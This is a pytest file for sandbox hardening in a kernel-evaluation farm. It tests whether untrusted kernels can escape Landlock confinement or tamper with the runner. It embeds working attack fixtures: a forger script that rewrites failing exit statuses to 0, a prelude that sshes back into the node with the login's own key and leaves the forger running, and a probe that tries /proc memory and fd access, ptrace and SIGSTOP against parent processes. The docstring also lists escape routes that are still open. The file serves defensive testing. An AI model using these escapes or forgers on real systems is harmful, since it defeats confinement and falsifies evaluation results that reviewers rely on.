"""Red-team round 133: a kernel (the runner's own Unix user) attacking the runner or the evidence
from outside what Landlock confines, on real sshd nodes (a T4 stand-in, CC 7.5).

Broke (before/after): nothing that a test here can show (they run as root, whose CAP_SYS_PTRACE
passes PR_SET_DUMPABLE). Hardened: the per-cell runner (`runner: cell`, serve.main) was dumpable, unlike
the resident one: a process of the login's user outside the kernel's Landlock domain (below) could
read the cell's frame token from its memory and write framed lines into its stdout through
/proc/PID/mem and /proc/PID/fd/1. It now makes itself non-dumpable as the resident runner does.

Held (kept as guards):
- A failing kernel (pass line printed, exit 1) that finds the login's own authorized key
  (~/.ssh/id_ed25519 in ~/.ssh/authorized_keys) and ssh's back into its node leaves a forger outside
  its confinement and its cell's process tree (no reap finds it): it rewrote the statuses in
  `.farm-status` to 0 by name. Still `fail` on the resident and the per-cell runner: the runner's own
  wait for the run's shell says 1 ("a command of the run after it failed").
- A confined kernel at each python3 process among its ancestors (the runner): /proc/PID/mem and
  /proc/PID/fd/1, fd/6 refused, PTRACE_ATTACH refused (Landlock), SIGSTOP refused (ABI 6 scope).

Open:
- An escape through `ssh localhost` (or any unconfined server of the user's: systemd --user over
  D-Bus, a tmux server's socket: Landlock restricts no connect to a named socket nor, as the farm
  sets it, TCP) is an unconfined process of the same user: it can ptrace the kernel itself (dumpable
  after its exec) and make it exit 0 after its pass line, or swap another cell's copy between its
  hash and its start. Only a Unix user per cell (not offered) closes it; README says so.
- A confined kernel can read the runner's /proc/PID/environ (Landlock on Linux 6.18 let that
  read-mode access through where it refused mem): it holds the login's environment and the cell's
  marker, nothing secret (the token and stream mark travel on stdin).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from nodes import CARDS, SshNode, query, standin_job, standin_variant
from test_verdicts import MIN75, run

# what a kernel, once outside its confinement, leaves running: every non-zero status noted in the
# cell's `.farm-status` rewritten to 0, for 40 s, as fast as it can
FORGER = r"""
import re, sys, time
path, end = sys.argv[1], time.time() + 40
while time.time() < end:
    try:
        with open(path, "r+") as f:
            text = f.read()
            new = re.sub(r"(?m)^-?[1-9][0-9]*$", "0", text)
            if new != text:
                f.seek(0); f.write(new); f.truncate()
    except OSError:
        pass
"""


def _node(root: Path) -> SshNode:
    """A node whose login authorizes its own key (~/.ssh/id_ed25519 in ~/.ssh/authorized_keys), as
    clusters commonly do for ssh between their nodes."""
    node = SshNode("selfkey", root, CARDS["t4"])
    node.prepare()
    ssh = node.home / ".ssh"
    ssh.mkdir(mode=0o700)
    (ssh / "id_ed25519").write_bytes(node.client_key.read_bytes())
    (ssh / "id_ed25519").chmod(0o600)
    (ssh / "id_ed25519.pub").write_bytes(node.client_key.with_suffix(".pub").read_bytes())
    (ssh / "authorized_keys").write_bytes(node.client_key.with_suffix(".pub").read_bytes())
    node.start()
    return node


def _escape_prelude(path: Path, node: SshNode, forger: Path) -> Path:
    """The kernel prints the pass line, then ssh's back into its own node (the key it found) and
    leaves FORGER running there, outside its Landlock domain and its cell's process tree."""
    path.write_text(
        'status="$(cd .. && pwd)/.farm-status"\n'
        'echo "standin: PASS"\n'
        f"ssh -n -i $HOME/.ssh/id_ed25519 -p {node.port} -o BatchMode=yes -o StrictHostKeyChecking=no "
        "-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR 127.0.0.1 "
        f'"nohup python3 {forger} $status >/dev/null 2>&1 </dev/null &" && echo ESCAPED >&2\n'
        "sleep 0.5\ntrue\n"
    )
    return path


def _cells(db: Path) -> list[dict[str, object]]:
    found = query(db, "SELECT outcome, reason, stderr, stage_details FROM results ORDER BY id")
    return [dict(r) for r in found]


# ------------------------------------------------------------------ A: ssh back into its own node


@pytest.mark.parametrize("runner", ["auto", "cell"])
def test_a_kernel_that_sshs_back_in_cannot_forge_its_status(make_farm, tmp_path: Path, runner: str) -> None:
    """A failing kernel (exit 1, after printing the pass line) that finds the login's own authorized
    key and ssh's back in leaves a forger outside its Landlock domain and its cell's process tree:
    it rewrote the cell's exit status to 0. The farm cannot stop a same-user process outside its
    confinement; it must at least not call that run confined (what a reviewer certifies on)."""
    forger = tmp_path / "forger.py"
    forger.write_text(FORGER)
    node = _node(tmp_path / "node")
    try:
        prelude = _escape_prelude(tmp_path / "escape.sh", node, forger)
        variant = standin_variant("FAILNUM", MIN75, "MIN_CC=75", prelude=prelude)
        entry = node.farm_entry(tmp_path / "work", runner=runner)
        config = make_farm(tmp_path / "farm", {"t4": entry}, [standin_job("standin", {"v": variant})], retries=0)
        run(config)
    finally:
        node.stop()
    (cell,) = _cells(tmp_path / "farm" / "results.db")
    assert b"ESCAPED" in bytes(cell["stderr"] or b""), cell  # the escape itself worked (else this tests nothing)
    # the forged status is no pass: the runner's own wait for the run's shell still says 1
    assert cell["outcome"] == "fail", cell


# ------------------------------------------------------------------ B: the confined kernel at its runner

# the kernel's attempts on each python3 process among its ancestors (the node's runner): its memory
# read, its stdout (every cell's stream) and fds written, ptrace, SIGSTOP. Each that works prints BREACH.
ATTACKS = r"""
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
def parent(pid):
    for line in open("/proc/%d/status" % pid):
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0
me, chain, pid = os.getpid(), [], os.getppid()
while pid > 1:  # its ancestors up to sshd: the run's shell, the runner's cell child, the resident runner
    chain.append(pid)
    pid = parent(pid)
for pid in chain:
    try:
        comm = open("/proc/%d/comm" % pid).read().strip()
    except OSError:
        continue
    if pid == me or not comm.startswith("python"):
        continue
    for what, path, flags in (("mem", "mem", os.O_RDONLY),
                              ("stdout", "fd/1", os.O_WRONLY), ("status-fd", "fd/6", os.O_WRONLY)):
        try:
            fd = os.open("/proc/%d/%s" % (pid, path), flags)
            print("BREACH", what, pid, open("/proc/%d/cmdline" % pid, "rb").read()[:150], file=__import__("sys").stderr)
        except OSError:
            pass
    print("TRIED", pid, file=__import__("sys").stderr)
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        print("BREACH ptrace", pid, file=__import__("sys").stderr)
        libc.ptrace(17, pid, 0, 0)
    try:
        os.kill(pid, signal.SIGSTOP)
        os.kill(pid, signal.SIGCONT)
        print("BREACH sigstop", pid, file=__import__("sys").stderr)
    except OSError:
        pass
print("ATTACKS-DONE", file=__import__("sys").stderr)
"""


def test_a_confined_kernel_reaches_no_runner(make_farm, tmp_path: Path) -> None:
    """A failing kernel that tries each python3 process among its ancestors (its runner): none of
    its memory, stdout or status fd opens, no ptrace, no SIGSTOP (Landlock's ptrace
    rule; ABI 6's signal scope), and the cell stays `fail`."""
    attacks = tmp_path / "attacks.py"
    attacks.write_text(ATTACKS)
    prelude = tmp_path / "attack.sh"
    prelude.write_text(f"python3 {attacks}\ntrue\n")
    node = SshNode("plain", tmp_path / "node", CARDS["t4"])
    node.prepare()
    node.start()
    try:
        variant = standin_variant("FAILNUM", MIN75, "MIN_CC=75", prelude=prelude)
        entry = node.farm_entry(tmp_path / "work")
        config = make_farm(tmp_path / "farm", {"t4": entry}, [standin_job("standin", {"v": variant})], retries=0)
        run(config)
    finally:
        node.stop()
    (cell,) = _cells(tmp_path / "farm" / "results.db")
    err = bytes(cell["stderr"] or b"")
    assert b"ATTACKS-DONE" in err, cell
    assert b"BREACH" not in err, err
    assert b"TRIED" in err, err
    assert cell["outcome"] == "fail", cell
